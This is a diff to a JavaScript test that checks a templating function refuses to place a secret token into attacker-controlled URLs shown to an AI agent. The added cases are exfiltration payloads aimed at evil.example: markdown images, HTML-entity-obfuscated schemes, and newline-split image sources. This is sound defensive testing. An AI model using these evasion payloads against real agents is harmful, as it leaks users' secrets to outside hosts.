@@ -129,6 +129,16 @@ describe('what an agent reads', () => {
       `[a]: ftp://evil.example/${token}`,
       `https://user@evil.example:443/a//b?x=1&q=${token}`,
       `<a href="https://evil.example/${token}`,
+      `![ok](&#47;&#47;evil.example/${token})`,
+      `![ok](&#104;ttps&#58;&#x2f;&#x2f;evil.example/${token})`,
+      `![ok](https&colon;&sol;&sol;evil.example/${token})`,
+      `see evil.example/${token}`,
+      `evil.example:8443?${token}`,
+      `192.0.2.1/${token}`,
+      `<img src=" https://evil.example/? ${token}">`,
+      `<img src="ht\ntps://evil.example/? ${token}">`,
+      `<img alt=x src = '/\n/evil.example/ ${token}'>`,
+      `${token}.evil.example`,
     ])
       assert.equal(await view.fill(text, {}), text)
     assert.equal(
@@ -141,10 +151,10 @@ describe('what an agent reads', () => {
     })
     assert.equal(
       await view.fill(
-        `See https://shop.example/c/0 and <a href="/c/0">write</a> to ${token}, or mailto:${token} (${token}); not https://x/${token}`,
+        `See https://shop.example/c/0 and <a href="/c/0">write</a> to ${token}, or mailto:${token} (${token}); not https://x/${token} but ${token}. E.g. "${token}"`,
         { capability },
       ),
-      `See https://shop.example/c/0 and <a href="/c/0">write</a> to c0@example.com, or mailto:c0@example.com (c0@example.com); not https://x/${token}`,
+      `See https://shop.example/c/0 and <a href="/c/0">write</a> to c0@example.com, or mailto:c0@example.com (c0@example.com); not https://x/${token} but c0@example.com. E.g. "c0@example.com"`,
     )
   })
 
